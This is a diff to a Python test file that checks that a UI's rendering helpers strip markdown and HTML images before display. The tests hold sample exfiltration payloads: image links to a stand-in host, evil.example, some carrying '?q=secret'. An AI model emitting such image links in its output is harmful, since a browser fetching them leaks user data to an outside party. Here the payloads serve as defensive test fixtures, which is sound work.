@@ -13,7 +13,14 @@ from PIL import Image
 from app.services.viewing import original_file
 from engine.types import EngineError
 from ui import prefs as prefs_store
-from ui.render import code_excerpt_html, marked_text, pdf_page_png, safe_answer, window_treemap
+from ui.render import (
+    code_excerpt_html,
+    marked_text,
+    pdf_page_png,
+    safe_answer,
+    safe_text,
+    window_treemap,
+)
 from ui.uploads import check_local_path, safe_name, save_batch
 
 
@@ -51,10 +58,21 @@ def test_marked_text_escapes_and_marks():
     assert "&lt;b&gt;" in out and "<mark>the code is 7291</mark>" in out
 
 
-def test_safe_answer_drops_images_that_would_fetch_urls():
-    text = "See ![x](https://evil.example/?q=secret) and [a link](https://ok.example)."
-    out = safe_answer(text)
-    assert "evil.example" not in out and "[a link](https://ok.example)" in out
+def test_no_image_can_form_in_answers_or_passages():
+    """Inline, reference-style and nested-alt images would make the browser fetch a URL."""
+    from markdown_it import MarkdownIt
+
+    md = MarkdownIt("commonmark")
+    for text in ["See ![x](https://evil.example/?q=secret) and [a link](https://ok.example).",
+                 "![a][r]\n\n[r]: https://evil.example/ref",
+                 "![a [b] c](https://evil.example/q)"]:
+        assert "<img" in md.render(text)  # the attack works on the raw text
+        assert "<img" not in md.render(safe_answer(text))
+    assert "[a link](https://ok.example)" in safe_answer("[a link](https://ok.example)")
+    assert "<img" not in md.render(safe_text("<img src=https://evil.example>"))
+    # a passage with blank lines stays one HTML block: markdown never parses its text
+    passage = marked_text("x\n\n![x](https://evil.example/pixel)", "")
+    assert "\n" not in passage and "<img" not in md.render(passage).replace("&lt;img", "")
 
 
 def test_treemap_sizes_sources_in_folders_and_shows_the_free_window():
@@ -85,7 +103,10 @@ def test_uploads_keep_to_their_folder_and_respect_the_limit(scoutlens_home):
              _Up("big.pdf", b"0" * (2 * 2**20)), _Up("empty.txt", b"")]
     paths, refused = save_batch("docs", files, limit_mb=1)
     assert [p.name for p in paths] == ["x.py", "x-2.py"]
-    assert all(p.is_relative_to(scoutlens_home / "uploads" / "docs") for p in paths)
+    assert all(p.is_relative_to(scoutlens_home / "uploads") for p in paths)
+    from ui.uploads import corpus_folder
+
+    assert len({corpus_folder(n) for n in ("team@x", "team_x", "docs.", "docs")}) == 4
     assert {r.name: r.reason.split()[-1] for r in refused} == {"big.pdf": "(Settings)",
                                                               "empty.txt": "file"}
     assert paths[1].read_bytes() == b"print(2)\n"
